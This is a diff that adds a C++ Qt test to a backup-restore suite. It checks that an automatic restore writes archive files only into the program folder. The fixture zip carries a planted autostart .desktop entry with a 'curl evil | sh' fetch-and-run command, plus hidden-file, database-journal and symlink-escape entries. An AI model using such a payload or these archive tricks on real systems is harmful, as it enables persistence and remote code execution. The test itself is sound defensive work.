@@ -621,6 +621,55 @@ QStringList everythingIn(const QString &folder)
     return names;
 }
 
+// Started from the home folder, as a desktop launcher starts the program,
+// the automatic restore puts the archive's other files into the program
+// folder, asking before it replaces one, and nowhere else: not into the
+// current folder, not into a hidden folder, not through a link out of the
+// program folder, not onto the database's journal.
+TEST_F(BackupRestoreFlow, TheAutomaticRestorePutsOtherFilesOnlyIntoTheProgramFolder)
+{
+    insertVariedCustomers(folder.databasePath(), 30);
+    const QByteArray sound = fileBytes(folder.databasePath());
+    insertVariedCustomers(folder.databasePath(), 5);
+    putFile(folder.file("Complete.rpt"), "the center's listing");
+    const QString home = work.filePath("home");
+    const QString outside = work.filePath("outside");
+    QDir().mkpath(home);
+    QDir().mkpath(outside);
+    ASSERT_TRUE(QFile::link(outside, folder.file("linked")));
+    putFile(QDir(drive).filePath("VantrelBackup.zip"),
+            rawZip({{"Vantrel.mdb", sound},
+                    {".config/autostart/evil.desktop", "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"},
+                    {".hidden.txt", "hidden"},
+                    {"notes/league.txt", "league night"},
+                    {"Complete.rpt", "the listing as backed up"},
+                    {"VANTREL.MDB-journal", "a journal the engine would play into the database"},
+                    {"linked/planted.txt", "through the link"}}));
+    const QString started = QDir::currentPath();
+    ASSERT_TRUE(QDir::setCurrent(home));
+    auto *window = new backup::frmZipCreate;
+    window->show();
+    window->menuItem("mnuAutomaticRestore")->trigger();
+    delete window;
+    QDir::setCurrent(started);
+
+    EXPECT_EQ(everythingIn(home), QStringList());
+    EXPECT_EQ(everythingIn(outside), QStringList());
+    // Beside them only the kept database the restore replaced.
+    const QStringList restored = everythingIn(folder.path()).filter(QRegularExpression("^(?!VANTREL\\.MDB\\.kept)"));
+    EXPECT_EQ(restored, QStringList({"Complete.rpt", "Vantrel.mdb", "linked", "notes", "notes/league.txt"}))
+        << restored.join(", ").toStdString();
+    EXPECT_EQ(fileBytes(folder.file("notes/league.txt")), QByteArray("league night"));
+    EXPECT_EQ(fileBytes(folder.file("Complete.rpt")), QByteArray("the listing as backed up"));
+    EXPECT_EQ(boxesLike("The file '" + folder.file("Complete.rpt") + "' already exists").size(), 1)
+        << services.boxTexts().join(" | ").toStdString();
+    EXPECT_EQ(storedRows(folder.databasePath(), "Information").size(), 30);
+    const QString refused = boxesLike("These files of the archive were not restored").join(" | ");
+    for (const char *name :
+         {".config\\autostart\\evil.desktop", ".hidden.txt", "VANTREL.MDB-journal", "linked\\planted.txt"})
+        EXPECT_TRUE(refused.contains(name)) << name << ": " << services.boxTexts().join(" | ").toStdString();
+}
+
 // A folder as drive A is the operator's: a backup there clears only what is
 // of its archive, and the previous archive stays until the new one is whole.
 TEST_F(BackupRestoreFlow, AFolderAsDriveAKeepsTheOperatorsFiles)
